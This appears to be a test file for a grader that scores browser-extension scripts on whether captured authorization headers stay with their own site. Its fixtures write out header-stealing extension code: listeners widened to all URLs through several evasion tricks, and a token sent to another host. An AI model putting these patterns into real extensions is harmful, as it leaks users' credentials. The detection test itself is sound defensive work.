import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* Requests that an event is heard of for one site only go back to that site; every other way they take is told. */
const TAKES =
  "(d) => { const one = d.requestHeaders.find((h) => h.name === 'authorization'); chrome.storage.local.set({ key: one.value }); }";
const heard = (filter: string, to = 'https://api.app.example/list', takes = TAKES, before = ''): string =>
  `${before} chrome.webRequest.onBeforeSendHeaders.addListener(${takes}, ${filter}, ['requestHeaders']); chrome.alarms.onAlarm.addListener(async () => { const { key } = await chrome.storage.local.get('key'); await fetch('${to}', { headers: { authorization: key } }); });`;
const OWN = "{ urls: ['https://*.app.example/*'] }";

it.each([[OWN], ["{ urls: ['https://*.app.example/*', '*://app.example/*'], types: ['xmlhttprequest'] }"]])(
  'what is heard of a site goes back to it: %s',
  async (filter) => {
    expect(await graded({ background: heard(filter) })).toMatch(/^A/);
  },
);

it.each([
  [heard(OWN, 'https://api.other.example/list')],
  [heard("{ urls: ['https://*.app.example/*', '<all_urls>'] }")],
  [heard("{ urls: ['*://*/*'] }")],
  [heard('filter', undefined, undefined, `const filter = ${OWN}; filter.urls.push('<all_urls>');`)],
  [heard('{ urls }', undefined, undefined, "const urls = ['https://*.app.example/*']; urls.push('<all_urls>');")],
  [heard("{ urls: ['https://*.app.example/*', ...more] }", undefined, undefined, "const more = ['<all_urls>'];")],
  [heard(`{ ...${OWN}, ...more }`, undefined, undefined, "const more = { urls: ['<all_urls>'] };")],
  // The same function hears of all sites, too.
  [
    heard(
      OWN,
      undefined,
      'take',
      `const take = ${TAKES}; chrome.webRequest.onSendHeaders.addListener(take, { urls: ['<all_urls>'] }, ['requestHeaders']);`,
    ),
  ],
])('what is heard of others, or sent to others, is told: %s', async (background) => {
  expect(await graded({ background })).toMatch(/^[DF]$/);
});
